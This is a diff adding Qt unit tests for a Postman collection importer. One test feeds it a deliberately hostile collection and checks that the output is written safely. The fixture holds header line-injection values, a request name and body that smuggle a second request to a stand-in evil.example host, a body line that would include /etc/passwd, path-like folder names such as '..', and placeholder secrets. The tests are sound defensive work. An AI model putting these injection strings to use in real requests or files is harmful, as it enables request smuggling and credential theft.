@@ -2,6 +2,9 @@
 #include "core/postmanimport.h"
 
 #include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QTemporaryDir>
 #include <QTest>
 
@@ -24,6 +27,8 @@ private Q_SLOTS:
     void exportThenImportGivesTheSameFiles();
     void rejectsWhatIsNotACollection_data();
     void rejectsWhatIsNotACollection();
+    void hostileCollectionIsWrittenSafely();
+    void tooDeepIsRefusedWhole();
 
 private:
     WireRequest load(const QString &file, const QString &name);
@@ -154,6 +159,138 @@ void TestPostmanImport::rejectsWhatIsNotACollection()
     const auto r = importPostman(json);
     QVERIFY(!r);
     QVERIFY(r.error().message.contains(u"Postman"_s));
+}
+
+namespace {
+
+QJsonObject postmanRequest(const QString &name, const QJsonObject &request)
+{
+    return QJsonObject { { u"name"_s, name }, { u"request"_s, request } };
+}
+
+QJsonObject postmanFolder(const QString &name, const QJsonArray &items)
+{
+    return QJsonObject { { u"name"_s, name }, { u"item"_s, items } };
+}
+
+QByteArray collectionJson(const QJsonArray &items)
+{
+    return QJsonDocument(
+        QJsonObject { { u"info"_s,
+                          QJsonObject { { u"name"_s, u"hostile"_s },
+                              { u"schema"_s,
+                                  u"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"_s } } },
+            { u"item"_s, items } })
+        .toJson();
+}
+
+} // namespace
+
+// A collection written to attack whoever imports it: names and values that would
+// inject lines, bodies that would include files or start requests, folder names a
+// file system cannot take twice, literal credentials. Every request that is written
+// reads back as what Postman would send; none is lost without a note.
+void TestPostmanImport::hostileCollectionIsWrittenSafely()
+{
+    const QJsonObject raw { { u"mode"_s, u"raw"_s },
+        { u"raw"_s, u"< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_s } };
+    const QJsonObject chat { { u"method"_s, u"POST"_s },
+        { u"url"_s, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s },
+        { u"header"_s,
+            QJsonArray { QJsonObject { { u"key"_s, u"X-Auth-Token"_s }, { u"value"_s, u"pm-header-secret"_s } },
+                QJsonObject { { u"key"_s, u"X-Evil"_s }, { u"value"_s, u"a\r\nInjected: b"_s } } } },
+        { u"auth"_s,
+            QJsonObject { { u"type"_s, u"bearer"_s },
+                { u"bearer"_s, QJsonArray { QJsonObject { { u"key"_s, u"token"_s }, { u"value"_s, u"pm-bearer-secret"_s } } } } } },
+        { u"body"_s, raw } };
+    const QJsonArray items {
+        postmanRequest(u"line one\nPOST https://evil.example/ HTTP/1.1"_s, chat),
+        postmanRequest(u"no url"_s, QJsonObject { { u"method"_s, u"GET"_s } }),
+        postmanRequest(u"bad method"_s, QJsonObject { { u"method"_s, u"GET /x HTTP/1.1"_s }, { u"url"_s, u"https://a/"_s } }),
+        postmanFolder(u"Chat"_s, QJsonArray { postmanRequest(u"first"_s, QJsonObject { { u"url"_s, u"https://a/1"_s } }) }),
+        postmanFolder(u"Chat"_s, QJsonArray { postmanRequest(u"second"_s, QJsonObject { { u"url"_s, u"https://a/2"_s } }) }),
+        postmanFolder(u"requests.http"_s, QJsonArray { postmanRequest(u"third"_s, QJsonObject { { u"url"_s, u"https://a/3"_s } }) }),
+        postmanFolder(u".."_s, QJsonArray { postmanRequest(u"fourth"_s, QJsonObject { { u"url"_s, u"https://a/4"_s } }) }),
+        postmanFolder(QString(), QJsonArray { postmanRequest(u"fifth"_s, QJsonObject { { u"url"_s, u"https://a/5"_s } }) }),
+    };
+    const auto imported = importPostman(collectionJson(items));
+    QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
+    const QString notes = imported->notes.join(u'\n');
+    QVERIFY2(imported->requests == 6, qPrintable(notes)); // all but no URL and the bad method
+    QVERIFY2(notes.contains(u"no url: The request has no URL."_s), qPrintable(notes));
+    QVERIFY2(notes.contains(u"bad method"_s), qPrintable(notes));
+
+    QTemporaryDir dir;
+    const auto written = imported->writeTo(dir.path());
+    QVERIFY2(written, qPrintable(written ? QString() : written.error().message));
+    QCOMPARE(written->size(), 6 + 1); // five requests.http and the private environment
+    QStringList names;
+    const auto envs = HttpEnvironments::loadFromDirectory(dir.path());
+    QVERIFY(envs);
+    QVERIFY(envs->privateNames.contains(u"token"_s));
+    for (const QString &path : *written) {
+        if (!path.endsWith(u".http"_s))
+            continue;
+        QFile f(path);
+        QVERIFY(f.open(QIODevice::ReadOnly));
+        const QByteArray text = f.readAll();
+        for (const char *secret : { "pm-query-secret", "pm-header-secret", "pm-bearer-secret" })
+            QVERIFY2(!text.contains(secret), text.constData());
+        const auto file = HttpFile::parse(QString::fromUtf8(text));
+        QVERIFY2(file, text.constData());
+        for (const HttpFileRequest &r : file->requests()) {
+            names << r.name;
+            std::optional<BodyInclude> include;
+            const auto resolved = resolve(r, envs->variables({}).value(), dir.path(), &include);
+            QVERIFY2(resolved, text.constData());
+            QVERIFY(!include);
+            QVERIFY(!resolved->url.contains(u"evil"_s));
+            if (r.name.startsWith(u"line one"_s)) {
+                QCOMPARE(resolved->url, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s);
+                QCOMPARE(resolved->body, "< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_ba);
+                QCOMPARE(headerValue(resolved->headers, "authorization"), "Bearer pm-bearer-secret"_ba);
+                QCOMPARE(headerValue(resolved->headers, "x-auth-token"), "pm-header-secret"_ba);
+                QVERIFY(headerValue(resolved->headers, "x-evil").isNull());
+                QVERIFY(headerValue(resolved->headers, "injected").isNull());
+            }
+        }
+    }
+    names.sort();
+    QCOMPARE(names,
+        (QStringList { u"fifth"_s, u"first"_s, u"fourth"_s, u"line one POST https://evil.example/ HTTP/1.1"_s,
+            u"second"_s, u"third"_s }));
+#ifdef Q_OS_UNIX
+    QCOMPARE(QFile::permissions(dir.filePath(u"http-client.private.env.json"_s))
+            & (QFileDevice::ReadGroup | QFileDevice::ReadOther | QFileDevice::WriteGroup | QFileDevice::WriteOther),
+        QFileDevice::Permissions());
+#endif
+}
+
+void TestPostmanImport::tooDeepIsRefusedWhole()
+{
+    for (const int depth : { 100, 1000 }) {
+        QJsonArray items { postmanRequest(u"leaf"_s, QJsonObject { { u"url"_s, u"https://a/"_s } }) };
+        QByteArray json;
+        if (depth < 500) {
+            for (int i = 0; i < depth; ++i)
+                items = QJsonArray { postmanFolder(u"f"_s, items) };
+            json = collectionJson(items);
+        } else {
+            // Deeper than a JSON document can be built in memory here: written as text.
+            json = R"({"info":{"schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":)"_ba;
+            for (int i = 0; i < depth; ++i)
+                json += R"([{"name":"f","item":)";
+            json += "[]";
+            for (int i = 0; i < depth; ++i)
+                json += "}]";
+            json += "}";
+        }
+        const auto r = importPostman(json);
+        QVERIFY(!r);
+        QVERIFY2(r.error().message.contains(u"deep"_s), qPrintable(r.error().message));
+        QVERIFY2(!r.error().message.contains(u"not a Postman"_s, Qt::CaseInsensitive),
+            qPrintable(r.error().message));
+    }
 }
 
 QTEST_GUILESS_MAIN(TestPostmanImport)
